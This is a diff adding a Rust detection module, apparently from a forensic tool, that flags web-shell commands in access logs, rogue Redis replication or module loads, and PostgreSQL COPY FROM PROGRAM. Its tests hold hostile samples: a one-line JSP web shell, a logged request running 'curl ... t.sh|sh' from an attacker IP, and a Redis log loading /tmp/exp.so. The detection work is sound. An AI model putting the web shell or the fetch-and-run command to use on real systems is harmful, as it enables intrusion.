@@ -1,0 +1,268 @@
+//! What network services logged about their clients ([`crate::model::service_logs`]), judged:
+//! - `MT-ENT-001`: a web request carried a shell command to a server-side script (a web shell in use);
+//! - `MT-ENT-002`: Redis was made a replica of a master or loaded a module (HeadCrab, P2Pinfect);
+//! - `MT-ENT-003`: PostgreSQL ran a shell command (`COPY ... FROM PROGRAM`: PG_MEM, CPU_HU, Kinsing).
+//!
+//! A log line is history: alone it is low (the log is evidence, never an artifact). A finding is high
+//! when what the log names is still on the host — the script the request reached, the module file Redis
+//! loaded from a temp place or that belongs to Redis's account — and that file is its artifact. The
+//! entry-point inference reads the same model fact for the way in.
+
+use std::collections::BTreeMap;
+
+use minetrace_schemas::escape_bytes;
+use minetrace_schemas::findings::{Finding, Severity};
+use minetrace_schemas::records::file::{FileKind, FileRecord};
+
+use crate::detect::finding::{file_subject, finding, FindingExt};
+use crate::detect::rules;
+use crate::detect::runtime::support::{service_of, Names};
+use crate::detect::Context;
+use crate::indicators::PathClass;
+use crate::model::service_logs::{request_command, request_path, ServiceLogLine};
+use crate::parse::service_log::LogEvent;
+
+/// Log lines quoted per finding.
+const QUOTED: usize = 8;
+
+pub fn detect(ctx: &Context) -> Vec<Finding> {
+    let mut out = Vec::new();
+    out.extend(web_commands(ctx));
+    out.extend(redis(ctx));
+    out.extend(database(ctx));
+    out
+}
+
+fn quote(l: &ServiceLogLine, what: String) -> String {
+    format!("{}: {what}", l.location())
+}
+
+/// Scripts in web roots whose path ends with the request's path.
+fn scripts_at<'a>(ctx: &'a Context, request: &[u8]) -> Vec<&'a FileRecord> {
+    if request.len() < 2 || request.ends_with(b"/") {
+        return Vec::new();
+    }
+    ctx.model
+        .files
+        .iter()
+        .filter(|f| f.kind == FileKind::Regular)
+        .filter(|f| ctx.iocs.paths().is(PathClass::WebRoot, f.path.as_bytes()))
+        .filter(|f| f.path.as_bytes().ends_with(request))
+        .collect()
+}
+
+/// `MT-ENT-001`, one finding per requested script.
+fn web_commands(ctx: &Context) -> Vec<Finding> {
+    let mut by_script: BTreeMap<Vec<u8>, Vec<(&ServiceLogLine, Vec<u8>)>> = BTreeMap::new();
+    for l in &ctx.model.service_logs {
+        let LogEvent::WebRequest { target, .. } = &l.log.event else {
+            continue;
+        };
+        if let Some(cmd) = request_command(target, ctx.iocs) {
+            by_script
+                .entry(request_path(target))
+                .or_default()
+                .push((l, cmd));
+        }
+    }
+    let mut out = Vec::new();
+    for (script, hits) in by_script {
+        let files = scripts_at(ctx, &script);
+        let severity = if files.is_empty() {
+            Severity::Low
+        } else {
+            Severity::High
+        };
+        let mut f = finding(&rules::ENT_001, severity).evidence(format!(
+            "{} request(s) to {} carried a shell command",
+            hits.len(),
+            escape_bytes(&script)
+        ));
+        for (l, cmd) in hits.iter().take(QUOTED) {
+            let client = l.log.client.map(|c| format!(" from {c}")).unwrap_or_default();
+            f = f.evidence(quote(
+                l,
+                format!("request{client} ran: {}", escape_bytes(cmd)),
+            ));
+        }
+        if files.is_empty() {
+            f = f.evidence("no script at that path is on disk now (the log is the evidence)");
+        }
+        for file in files {
+            f = f
+                .subject(file_subject(file))
+                .evidence(format!("the script on disk: {}", file.path.escaped()));
+        }
+        out.push(f);
+    }
+    out
+}
+
+/// `MT-ENT-002`: one finding per Redis log.
+fn redis(ctx: &Context) -> Vec<Finding> {
+    let mut by_log: BTreeMap<&[u8], Vec<&ServiceLogLine>> = BTreeMap::new();
+    for l in &ctx.model.service_logs {
+        if matches!(
+            l.log.event,
+            LogEvent::RedisModuleLoaded { .. } | LogEvent::RedisReplicaOf { .. }
+        ) {
+            by_log.entry(&l.path[..]).or_default().push(l);
+        }
+    }
+    let mut out = Vec::new();
+    for (path, lines) in by_log {
+        // The accounts the service writing this log runs as: a module file one of them owns was
+        // written by that service.
+        let writer = ctx.iocs.services().writing_log(path);
+        let redis_uids: Vec<u32> = ctx
+            .model
+            .processes
+            .iter()
+            .filter(|p| {
+                writer.is_some_and(|w| {
+                    service_of(ctx.iocs, p, &Names::of(p)).is_some_and(|s| s.name == w.name)
+                })
+            })
+            .map(|p| p.uid.effective)
+            .filter(|u| *u != 0)
+            .collect();
+        let mut modules: Vec<&FileRecord> = Vec::new();
+        for l in &lines {
+            let LogEvent::RedisModuleLoaded { path: m, .. } = &l.log.event else {
+                continue;
+            };
+            let Some(file) = ctx.model.file(m) else {
+                continue;
+            };
+            let odd = ctx.iocs.paths().is(PathClass::KitProne, m);
+            if (odd || redis_uids.contains(&file.uid)) && !modules.contains(&file) {
+                modules.push(file);
+            }
+        }
+        let severity = if modules.is_empty() {
+            Severity::Low
+        } else {
+            Severity::High
+        };
+        let mut f = finding(&rules::ENT_002, severity);
+        for l in lines.iter().take(QUOTED) {
+            let what = match &l.log.event {
+                LogEvent::RedisReplicaOf { master } => format!(
+                    "replica of {}{}",
+                    escape_bytes(master.as_bytes()),
+                    l.log
+                        .client
+                        .map(|c| format!(" (asked by client {c})"))
+                        .unwrap_or_default()
+                ),
+                LogEvent::RedisModuleLoaded { name, path } => format!(
+                    "module {} loaded from {}",
+                    escape_bytes(name.as_bytes()),
+                    escape_bytes(path)
+                ),
+                _ => continue,
+            };
+            f = f.evidence(quote(l, what));
+        }
+        if modules.is_empty() {
+            f = f.evidence(format!(
+                "no loaded module file is on disk in a temp place or as Redis's account ({} is the evidence)",
+                escape_bytes(path)
+            ));
+        }
+        for m in modules {
+            f = f.subject(file_subject(m)).evidence(format!(
+                "the module on disk: {} (owner uid {})",
+                m.path.escaped(),
+                m.uid
+            ));
+        }
+        out.push(f);
+    }
+    out
+}
+
+/// `MT-ENT-003`: one finding per database log.
+fn database(ctx: &Context) -> Vec<Finding> {
+    let mut by_log: BTreeMap<&[u8], Vec<&ServiceLogLine>> = BTreeMap::new();
+    for l in &ctx.model.service_logs {
+        if matches!(l.log.event, LogEvent::DbProgram { .. }) {
+            by_log.entry(&l.path[..]).or_default().push(l);
+        }
+    }
+    let mut out = Vec::new();
+    for (path, lines) in by_log {
+        let mut f = finding(&rules::ENT_003, Severity::Low);
+        for l in lines.iter().take(QUOTED) {
+            let LogEvent::DbProgram { statement } = &l.log.event else {
+                continue;
+            };
+            let client = l.log.client.map(|c| format!(" (client {c})")).unwrap_or_default();
+            f = f.evidence(quote(l, format!("{}{client}", escape_bytes(statement))));
+        }
+        if let Some(file) = ctx.model.file(path) {
+            f = f.subject(file_subject(file));
+        }
+        out.push(f);
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::detect::Context;
+    use crate::indicators::Indicators;
+    use crate::model::fixture;
+
+    const ACCESS: &[u8] = b"203.0.113.88 - - [10/Jun/2025:11:02:16 +0000] \"GET /mgmt/cmd.jsp?c=id HTTP/1.1\" 200 38\n\
+203.0.113.88 - - [10/Jun/2025:11:02:19 +0000] \"GET /mgmt/cmd.jsp?c=curl%20-fsSL%20http%3A%2F%2F203.0.113.88%2Ft.sh%7Csh HTTP/1.1\" 200 0\n\
+10.0.0.4 - - [10/Jun/2025:11:03:00 +0000] \"GET /search?q=bash+tutorial HTTP/1.1\" 200 100\n";
+
+    #[test]
+    fn web_shell_in_use_is_high_while_on_disk() {
+        let iocs = Indicators::builtin();
+        let with_shell = fixture::model(
+            vec![
+                fixture::file(b"/var/log/tomcat9/localhost_access_log.2025-06-10.txt", Some(ACCESS)),
+                fixture::file(b"/var/lib/tomcat9/webapps/mgmt/cmd.jsp", Some(b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>")),
+            ],
+            vec![],
+        );
+        let found = detect(&Context { model: &with_shell, iocs: &iocs });
+        assert_eq!(found.len(), 1, "{found:?}");
+        let f = &found[0];
+        assert_eq!((f.rule.as_str(), f.severity), ("MT-ENT-001", Severity::High));
+        assert!(f.evidence.iter().any(|e| e.contains("curl -fsSL http://203.0.113.88/t.sh|sh")));
+        // Gone from disk: the log alone is low; the search for "bash tutorial" is nobody's shell.
+        let without = fixture::model(
+            vec![fixture::file(b"/var/log/nginx/access.log", Some(ACCESS))],
+            vec![],
+        );
+        let found = detect(&Context { model: &without, iocs: &iocs });
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].severity, Severity::Low);
+        assert!(found[0].subjects.is_empty());
+    }
+
+    #[test]
+    fn redis_module_in_a_temp_place_is_high() {
+        let iocs = Indicators::builtin();
+        let log: &[u8] = b"811:S 02 Jun 2025 14:07:12.004 * REPLICAOF 203.0.113.19:21000 enabled (user request from 'id=41 addr=203.0.113.19:51872')\n811:M 02 Jun 2025 14:07:14.503 * Module 'system' loaded from /tmp/exp.so\n";
+        let model = fixture::model(
+            vec![
+                fixture::file(b"/var/log/redis/redis-server.log", Some(log)),
+                fixture::file(b"/tmp/exp.so", Some(b"\x7fELF")),
+            ],
+            vec![],
+        );
+        let found = detect(&Context { model: &model, iocs: &iocs });
+        assert_eq!(found.len(), 1);
+        assert_eq!((found[0].rule.as_str(), found[0].severity), ("MT-ENT-002", Severity::High));
+        let clean = fixture::model(
+            vec![fixture::file(b"/var/log/redis/redis-server.log", Some(b"1:M 02 Jun 2025 06:00:01.116 * Ready to accept connections tcp\n1:M 02 Jun 2025 07:00:03.011 * DB saved on disk\n"))],
+            vec![],
+        );
+        assert!(detect(&Context { model: &clean, iocs: &iocs }).is_empty());
+    }
+}
